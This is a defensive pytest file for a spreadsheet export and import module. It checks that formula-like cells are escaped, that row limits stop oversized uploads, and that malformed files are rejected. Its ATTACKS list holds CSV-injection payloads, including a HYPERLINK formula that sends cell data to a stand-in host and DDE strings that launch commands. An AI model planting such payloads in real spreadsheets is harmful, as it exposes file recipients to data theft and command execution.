"""The shared CSV/XLSX writer neutralizes formula-like cells; the shared reader stops at the
row limit instead of loading the whole file."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from core import spreadsheets
from core.spreadsheets import Sheet, TableError, read_table, safe_cell
from tests.helpers import count_xlsx_rows, huge_xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["常州市天宁区助老协会", "2026-05", "a=b", "", None, -12, 3.5])
def test_plain_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_cells_are_neutralized_and_excel_reads_utf8():
    body = spreadsheets.csv_bytes([["名称", "金额"], *([attack, -5] for attack in ATTACKS)])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["名称", "金额"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert {r[1] for r in rows[1:]} == {"-5"}  # a number is a number, not text to defuse


def test_xlsx_cells_are_text_never_formulas():
    body = spreadsheets.xlsx_bytes([Sheet("名单:一/二", [["名称", "数量"],
                                                      *([a, 2] for a in ATTACKS)],
                                          bold_rows=(1,), widths={"A": 30})])
    book = load_workbook(io.BytesIO(body))
    sheet = book.worksheets[0]
    assert sheet.title == "名单 一 二"  # characters Excel refuses in a sheet name replaced
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    for row, attack in enumerate(ATTACKS, start=2):
        cell = sheet.cell(row=row, column=1)
        # (XML reads a carriage return back as a line feed)
        assert cell.data_type == "s" and cell.value == "'" + attack.replace("\r", "\n")
        assert sheet.cell(row=row, column=2).value == 2


def test_xlsx_drops_control_characters_xml_cannot_carry():
    body = spreadsheets.xlsx_bytes([Sheet("x", [["王\x07秀英"]])])
    assert load_workbook(io.BytesIO(body)).active["A1"].value == "王秀英"


# --- reading ---------------------------------------------------------------------------------

@pytest.fixture
def rows_parsed(monkeypatch):
    return count_xlsx_rows(monkeypatch)


def test_a_600k_row_workbook_is_refused_without_parsing_its_rows(rows_parsed):
    """Crafted without a <dimension>, openpyxl alone would parse all 600k rows just to size
    the sheet (80 s here) before the first row is handed out."""
    data = huge_xlsx(600_000)
    assert len(data) < 1_000_000  # well under the roster's 2 MB upload limit
    with pytest.raises(TableError) as refused:
        read_table("roster.xlsx", data, max_rows=2000)
    assert refused.value.kind == "too_many_rows"
    assert rows_parsed["rows"] == 0


def test_reading_a_long_workbook_stops_at_the_limit(rows_parsed):
    data = huge_xlsx(10_000, dimension="A1:C10001")  # as Excel writes it
    with pytest.raises(TableError, match="too_many_rows"):
        read_table("roster.xlsx", data, max_rows=2000)
    assert rows_parsed["rows"] <= 2002  # the header, 2000 rows, the one too many


def test_a_dimension_that_understates_the_rows_drops_none_of_them():
    data = huge_xlsx(50, dimension="A1:C2")
    assert len(read_table("roster.xlsx", data, max_rows=100)) == 51


def test_rows_up_to_the_limit_are_read_with_empty_rows_skipped():
    text = "姓名,开始时间\n王秀英,2026-05-01 09:00\n,\n\n李建国,2026-05-01 10:00\n"
    table = read_table("名单.csv", text.encode("gb18030"), max_rows=2)
    assert table == [["姓名", "开始时间"], ["王秀英", "2026-05-01 09:00"],
                     ["李建国", "2026-05-01 10:00"]]
    with pytest.raises(TableError, match="too_many_rows"):
        read_table("名单.csv", text.encode(), max_rows=1)


def test_a_file_of_empty_rows_is_not_read_to_its_end():
    padded = "姓名\n" + ",\n" * 100_000 + "王秀英\n"
    with pytest.raises(TableError) as refused:
        read_table("x.csv", padded.encode(), max_rows=10)
    assert refused.value.kind == "too_many_rows"


@pytest.mark.parametrize("name, data, kind", [
    ("roster.pdf", b"%PDF", "format"),
    ("roster.xlsx", b"PK\x03\x04 not really a zip", "unreadable"),
    ("roster.csv", b"\xff\xfe\x00\xd8\x00\xdc", "unreadable"),
    ("roster.csv", "a\n" + "x" * 200_000, "unreadable"),  # one field past csv's limit
])
def test_unreadable_files_are_named_not_crashed_on(name, data, kind):
    data = data.encode() if isinstance(data, str) else data
    with pytest.raises(TableError) as refused:
        read_table(name, data, max_rows=10)
    assert refused.value.kind in (kind, "encoding")
